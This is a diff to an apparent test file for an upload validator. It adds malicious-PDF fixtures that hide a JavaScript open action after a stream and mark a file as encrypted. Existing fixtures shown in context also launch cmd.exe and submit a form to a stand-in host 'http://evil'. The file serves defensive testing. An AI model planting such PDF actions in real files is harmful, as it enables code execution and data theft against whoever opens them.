@@ -103,6 +103,13 @@ def packed_pdf(inside: bytes) -> bytes:
     return head + packed + b"\nendstream endobj\n%%EOF\n"
 
 
+def streams_around(inside: bytes) -> bytes:
+    """Put something between two streams, as real PDFs do."""
+    stream = b" 0 obj << /Length 2 >>\nstream\nAB\nendstream\nendobj\n"
+    head, tail = pdf()[: -len(b"trailer <<>>\n%%EOF\n")], b"trailer <<>>\n%%EOF\n"
+    return head + b"2" + stream + b"3 0 obj << " + inside + b" >> endobj\n4" + stream + tail
+
+
 def archive(*names: str, size: int = 10) -> bytes:
     made = BytesIO()
     with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as file:
@@ -121,6 +128,10 @@ EVIL_PDFS = {
     "script": pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
     "script, escaped": pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
     "script, packed": packed_pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
+    "script, after a stream": streams_around(b"/S /JavaScript /JS (app.alert(1))"),
+    "locked, after a stream": streams_around(b"").replace(
+        b"trailer <<", b"trailer << /Encrypt 3 0 R"
+    ),
     "starts a program": pdf(b"/AA << /S /Launch /F (cmd.exe) >>"),
     "another file inside": pdf(b"/Names << /EmbeddedFiles 3 0 R >>"),
     "form that sends": pdf(b"/A << /S /SubmitForm /F (http://evil) >>"),
@@ -162,7 +173,7 @@ EVIL = {
 }
 GOOD = {
     Takes.PICTURE_OR_PDF: [picture(), picture(form="PNG"), picture(form="WEBP"), pdf()],
-    Takes.SIGNED_PDF: [pdf(), packed_pdf(b"<< /Type /Page >>")],
+    Takes.SIGNED_PDF: [pdf(), packed_pdf(b"<< /Type /Page >>"), streams_around(b"/Type /Page")],
     Takes.SPREADSHEET: [
         b"Name,Email\nMia,mia@example.org\n",
         archive("xl/workbook.xml", size=5000),
